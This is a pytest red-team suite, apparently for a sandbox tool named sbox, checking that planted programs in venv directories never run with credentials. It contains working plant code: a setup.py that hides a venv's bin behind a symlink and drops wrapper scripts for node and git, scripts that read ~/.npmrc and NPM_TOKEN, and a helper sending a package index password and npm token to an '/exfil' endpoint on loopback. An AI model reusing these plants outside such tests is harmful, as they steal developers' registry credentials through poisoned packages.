"""Red team round f13: programs a sandbox planted where sbox looked for them in the wrong place.

1. A venv's `bin` behind a link. A package's setup.py, run by pip's offline install phase (which
   may write the venv), moves `V/bin` to `V/lib/.x/bin`, links `V/bin -> lib/.x/bin` (the venv
   still works; pyvenv.cfg stays at `V/`) and adds a `node` and a `git` there. The venv is outside
   every project, on PATH, not activated. sbox looked for pyvenv.cfg beside the resolved entry
   only, so it kept `V/bin` on PATH for `mode: host` (npm's `#!/usr/bin/env node` ran the planted
   node with the npm token) and for network steps (pip's download step ran the planted git with
   the index password). An `npm` in a venv named by its absolute path ran in npm's download step.
2. A venv's base interpreter another sandbox wrote. In a monorepo, a sandbox of the outer project
   writes a fake "Python installation" (a `bin/python3.11` script, an empty `lib/python3.11/os.py`)
   and points the inner project's `.venv/pyvenv.cfg` `home` at it: sbox ran it as the interpreter
   of pip's download step, with the index password.

Every plant is made by a real sandboxed run (bwrap); the host is checked afterwards; each test's
control runs the plant outside sbox and shows it works.
"""
from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path
from typing import Iterator

import pytest
from conftest import require_backend
from support import packages as pkg
from support.boundary import config
from support.registries import PypiIndex, StaticServer
from support.sboxcli import run_sbox

pytestmark = pytest.mark.skipif(shutil.which("python3") is None, reason="python3 is not installed")
needs_npm_and_git = pytest.mark.skipif(not (shutil.which("npm") and shutil.which("git")),
                                       reason="npm and git are not installed")
PYTHON = shutil.which("python3") or "python3"
SYSTEM_PYTHON = "/usr/bin/python3" if os.path.isfile("/usr/bin/python3") else PYTHON  # reachable in a sandbox
TOKEN = "SBOX-NPM-CANARY-TOKEN"
PASSWORD = "SBOX-INDEX-CANARY-PASSWORD"

SWAP = """import os, sys
venv = sys.prefix  # the venv pip installs into, in the offline install phase (which may write it)
if os.path.isfile(os.path.join(venv, "pyvenv.cfg")) and not os.path.islink(os.path.join(venv, "bin")):
    hidden = os.path.join(venv, "lib", ".x")
    os.makedirs(hidden, exist_ok=True)
    os.rename(os.path.join(venv, "bin"), os.path.join(hidden, "bin"))
    os.symlink(os.path.join("lib", ".x", "bin"), os.path.join(venv, "bin"))
    for name, body in PLANTS.items():
        with open(os.path.join(hidden, "bin", name), "w") as out:
            out.write(body)
        os.chmod(os.path.join(hidden, "bin", name), 0o755)
"""


def _exfil(port: int) -> str:
    """Shell lines that send the index URL (with its password) and the npm token to /exfil."""
    return (f"{SYSTEM_PYTHON} -c \"import os,socket,urllib.parse as u; s=socket.create_connection(('127.0.0.1', {port}), 3); "
            "s.sendall(('GET /exfil?' + u.quote(os.environ.get('PIP_INDEX_URL', '') + ' ' + "
            "os.environ.get('NPM_TOKEN', '')) + ' HTTP/1.0\\r\\n\\r\\n').encode()); s.recv(9)\" 2>/dev/null\n")


def _plants(port: int, log: Path) -> dict[str, str]:
    node, git = shutil.which("node"), shutil.which("git")
    spy = (f'{{ echo "argv: $*"; echo "npmrc: $(cat "$HOME/.npmrc" 2>/dev/null)"; '
           f'echo "NPM_TOKEN=$NPM_TOKEN"; }} >> {log} 2>/dev/null\n')
    return {"node": f"#!/bin/sh\n{spy}{_exfil(port)}exec {node} \"$@\"\n",
            "git": f"#!/bin/sh\n{spy}{_exfil(port)}exec {git} \"$@\"\n"}


def _exfiltrated(server: StaticServer) -> list[str]:
    return [r for r in server.requests if "exfil" in r]


def _pip_env(index: PypiIndex, venv_bin: Path, password: bool = False) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items()
           if k not in ("PIP_FIND_LINKS", "PIP_EXTRA_INDEX_URL", "PYTHONPATH", "PYTHONHOME", "VIRTUAL_ENV")}
    url = index.index_url.replace("http://", f"http://user:{PASSWORD}@") if password else index.index_url
    env.update(PIP_INDEX_URL=url, PIP_CONFIG_FILE=os.devnull, PATH=f"{venv_bin}{os.pathsep}{os.environ['PATH']}")
    return env


def _publish_under_host_mode(tmp_path: Path, sbox_bin: str, registry: StaticServer, bin_dir: Path,
                             log: Path) -> None:
    """`npm publish --dry-run` through a dispatch rule to a `mode: host` profile, with `bin_dir`
    first on PATH: the planted `node` there must not run (the log stays absent); outside sbox, the
    same PATH runs it, token and all (the control)."""
    project = tmp_path / "c"
    config(project, "bwrap", "profiles:\n  publish:\n    mode: host\n"
                             "dispatch:\n  publish:\n    match: ['npm publish*']\n    profile: publish\n")
    (project / "package.json").write_text(json.dumps({"name": "app", "version": "1.0.0"}))
    home = Path(os.environ["HOME"])
    (home / ".npmrc").write_text(f"//127.0.0.1:{registry.port}/:_authToken=${{NPM_TOKEN}}\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith("npm_config_")}
    env.update(PATH=f"{bin_dir}{os.pathsep}{os.environ['PATH']}", NPM_TOKEN=TOKEN,
               npm_config_registry=f"{registry.url}/", npm_config_update_notifier="false",
               npm_config_cache=str(tmp_path / "npm-cache"), npm_config_tag="sbox-test")
    result = run_sbox(sbox_bin, ["run", "--", "npm", "publish", "--dry-run"], project, env=env)
    assert result.returncode == 0, (result.stdout + result.stderr)[-3000:]
    assert not log.exists(), log.read_text()
    subprocess.run(["npm", "publish", "--dry-run"], cwd=project, env=env, capture_output=True, timeout=120)
    assert TOKEN in log.read_text()


@pytest.fixture
def swapped(tmp_path: Path, sbox_bin: str) -> Iterator[tuple[Path, Path, PypiIndex]]:
    """The venv …/x/V, outside every project, on PATH but not activated, whose bin a package's
    setup.py moved behind a link in a real `sbox run -- pip install swapper`; the log the plants
    write to when they run on the host; the loopback index they report to."""
    require_backend("bwrap")
    log = tmp_path / "outside" / "plant.log"
    log.parent.mkdir()
    venv = tmp_path / "x" / "V"
    subprocess.run([PYTHON, "-m", "venv", str(venv)], check=True, timeout=300, capture_output=True)
    first = tmp_path / "a"
    config(first, "bwrap")
    with PypiIndex([]) as index:
        setup = f"PLANTS = {_plants(index.port, log)!r}\n" + SWAP
        index.add(*pkg.sdist("swapper", "1.0", setup, {"swapper.py": "OK = 1\n"}, backend="intree"))
        result = run_sbox(sbox_bin, ["run", "--", "pip", "install", "swapper"], first,
                          env=_pip_env(index, venv / "bin"))
        assert result.returncode == 0, (result.stdout + result.stderr)[-4000:]
        assert (venv / "bin").is_symlink() and (venv / "lib" / ".x" / "bin" / "node").is_file()  # planted
        check = subprocess.run([str(venv / "bin" / "python"), "-c", "import swapper, sys; print(sys.prefix)"],
                               capture_output=True, text=True, timeout=60)
        assert check.stdout.strip() == str(venv)  # the venv still works
        assert not log.exists() and not _exfiltrated(index)
        yield venv, log, index


@needs_npm_and_git
def test_a_node_behind_a_linked_venv_bin_never_runs_under_mode_host(tmp_path: Path, sbox_bin: str,
                                                                    swapped: tuple[Path, Path, PypiIndex]) -> None:
    venv, log, _ = swapped
    with StaticServer() as registry:
        _publish_under_host_mode(tmp_path, sbox_bin, registry, venv / "bin", log)


@needs_npm_and_git
def test_a_git_behind_a_linked_venv_bin_never_runs_in_the_download_step(tmp_path: Path, sbox_bin: str,
                                                                       swapped: tuple[Path, Path, PypiIndex]) -> None:
    """pip's download step runs `git` for a VCS requirement, with PIP_INDEX_URL's password."""
    venv, _, index = swapped
    project = tmp_path / "b"
    config(project, "bwrap")
    env = _pip_env(index, venv / "bin", password=True)
    requirement = f"dep @ git+http://127.0.0.1:{index.port}/dep.git"
    result = run_sbox(sbox_bin, ["run", "--", "pip", "install", requirement], project, env=env)
    assert result.returncode != 0  # the real git finds no repository there
    assert not _exfiltrated(index), result.stderr[-3000:]
    plan = run_sbox(sbox_bin, ["plan", "--json", "--", "pip", "install", requirement], project, env=env)
    assert plan.returncode == 0, plan.stderr[-3000:]
    steps = [s for s in json.loads(plan.stdout)["steps"] if s["network"]["policy"] != "off"]
    assert steps
    for step in steps:  # no network step's PATH has the venv's bin
        assert not any(d.startswith(str(venv)) for d in step["env"]["PATH"].split(os.pathsep)), step["env"]["PATH"]

    # Control: the planted git, run as pip runs it, sends the password.
    subprocess.run(["git", "version"], env=env, capture_output=True, timeout=60)
    assert PASSWORD in " ".join(_exfiltrated(index))


@needs_npm_and_git
def test_an_npm_in_a_venv_named_by_its_path_never_runs_with_the_network(tmp_path: Path, sbox_bin: str) -> None:
    """`sbox run -- /…/venv/bin/npm install`: pyvenv.cfg is beside `bin`, not in it."""
    require_backend("bwrap")
    venv = tmp_path / "venv"
    subprocess.run([PYTHON, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=300, capture_output=True)
    project = tmp_path / "p"
    config(project, "bwrap")
    (project / "package.json").write_text(json.dumps({"name": "app", "version": "1.0.0"}))
    with StaticServer() as registry:
        planted = venv / "bin" / "npm"
        planted.write_text(f"#!/bin/sh\n{_exfil(registry.port)}exec {shutil.which('npm')} \"$@\"\n")
        planted.chmod(0o755)
        env = dict(os.environ, npm_config_registry=f"{registry.url}/", npm_config_update_notifier="false",
                   npm_config_audit="false", NPM_TOKEN=TOKEN)
        result = run_sbox(sbox_bin, ["run", "--", str(planted), "install"], project, env=env)
        assert not _exfiltrated(registry), _exfiltrated(registry)
        assert result.returncode == 2, (result.stdout + result.stderr)[-3000:]
        (line,) = result.stderr.strip().splitlines()
        assert str(planted) in line and "where sandboxes write" in line
        assert not _exfiltrated(registry)

        subprocess.run([str(planted), "--version"], env=env, capture_output=True, timeout=60)  # control
        assert TOKEN in " ".join(_exfiltrated(registry))


def test_a_base_interpreter_another_sandbox_wrote_never_runs(tmp_path: Path, sbox_bin: str) -> None:
    """Monorepo M (opted in) holding py (opted in, with its venv). A sandbox of M writes a fake
    Python in M/node_modules and points py/.venv/pyvenv.cfg's home at it: refused in one line,
    exit 2, nothing run (the index sees no request)."""
    require_backend("bwrap")
    monorepo = tmp_path / "M"
    config(monorepo, "bwrap")
    inner = monorepo / "py"
    config(inner, "bwrap")
    venv = inner / ".venv"
    subprocess.run([PYTHON, "-m", "venv", str(venv)], check=True, timeout=300, capture_output=True)
    with PypiIndex([pkg.wheel("dep", "1.0", {"dep.py": "X = 1\n"})]) as index:
        fake = monorepo / "node_modules" / "x"
        script = _exfil(index.port).replace("\\", "\\\\").replace("'", "'\\''")
        plant = (f"mkdir -p {fake}/bin {fake}/lib/python3.11 && : > {fake}/lib/python3.11/os.py && "
                 f"printf '%s' '#!/bin/sh\n' > {fake}/bin/python3.11 && "
                 f"printf '%s' '{script}' >> {fake}/bin/python3.11 && chmod +x {fake}/bin/python3.11 && "
                 f"sed -i 's|^home = .*|home = {fake}/bin|' {venv}/pyvenv.cfg")
        planting = run_sbox(sbox_bin, ["run", "--", "sh", "-c", plant], monorepo)
        assert planting.returncode == 0, planting.stderr[-3000:]
        assert f"home = {fake}/bin" in (venv / "pyvenv.cfg").read_text()

        env = _pip_env(index, venv / "bin", password=True)
        env["VIRTUAL_ENV"] = str(venv)
        result = run_sbox(sbox_bin, ["run", "--", "pip", "install", "dep"], inner, env=env)
        assert not _exfiltrated(index), _exfiltrated(index)
        assert result.returncode == 2, (result.stdout + result.stderr)[-3000:]
        (line,) = result.stderr.strip().splitlines()
        assert str(venv / "pyvenv.cfg") in line and "home = " in line, line
        assert index.requests == [] and not (venv / "lib" / "python3.11" / "site-packages" / "dep.py").exists()

        # Control: the fake interpreter, run as pip's download step would, sends the password.
        subprocess.run([str(fake / "bin" / "python3.11"), "-I", "-S"], env=env, capture_output=True, timeout=60)
        assert PASSWORD in " ".join(_exfiltrated(index))


@needs_npm_and_git
def test_a_node_planted_in_another_projects_tree_never_runs_under_mode_host(tmp_path: Path,
                                                                            sbox_bin: str) -> None:
    """Another opted-in project's tree is written by its sandboxes: a `bin` there that is on PATH
    (a venv whose pyvenv.cfg such a sandbox deleted, a tools directory) is no place for a host or
    network step's programs, pyvenv.cfg or not."""
    require_backend("bwrap")
    other = tmp_path / "other"
    config(other, "bwrap")
    log = tmp_path / "outside" / "plant.log"
    log.parent.mkdir()
    tools = other / ".venv" / "bin"
    with StaticServer() as registry:
        node = _plants(registry.port, log)["node"]
        plant = run_sbox(sbox_bin, ["run", "--", "sh", "-c", "mkdir -p .venv/bin && cat > .venv/bin/node && "
                                    "chmod +x .venv/bin/node"], other, input=node)
        assert plant.returncode == 0 and (tools / "node").is_file(), plant.stderr[-2000:]
        _publish_under_host_mode(tmp_path, sbox_bin, registry, tools, log)


DELETE_CFG = """import os, sys
try:
    os.remove(os.path.join(sys.prefix, "pyvenv.cfg"))
    print("deleted", file=sys.stderr)
except OSError as e:
    print("kept:", e, file=sys.stderr)
"""


def test_an_install_phase_cannot_delete_the_venv_s_pyvenv_cfg(tmp_path: Path, sbox_bin: str, backend: str) -> None:
    """pyvenv.cfg is how sbox knows a directory for a venv, whose `bin` no network step or
    `mode: host` command takes a program from: the install phase that writes a venv outside the
    project finds it read-only."""
    venv = tmp_path / "x" / "V"
    subprocess.run([PYTHON, "-m", "venv", str(venv)], check=True, timeout=300, capture_output=True)
    project = tmp_path / "a"
    config(project, backend)
    with PypiIndex([]) as index:
        index.add(*pkg.sdist("cfgdel", "1.0", DELETE_CFG, {"cfgdel.py": "OK = 1\n"}, backend="intree"))
        env = _pip_env(index, venv / "bin")
        result = run_sbox(sbox_bin, ["run", "--", "pip", "install", "cfgdel"], project, env=env)
    assert result.returncode == 0, (result.stdout + result.stderr)[-4000:]
    assert (venv / "pyvenv.cfg").is_file()
    site = next(venv.glob("lib/python3*/site-packages"))
    assert (site / "cfgdel.py").is_file()  # the install itself went through

    # Control: the same code, run by the venv's python outside sbox, deletes it.
    subprocess.run([str(venv / "bin" / "python"), "-c", DELETE_CFG], capture_output=True, timeout=60)
    assert not (venv / "pyvenv.cfg").exists()
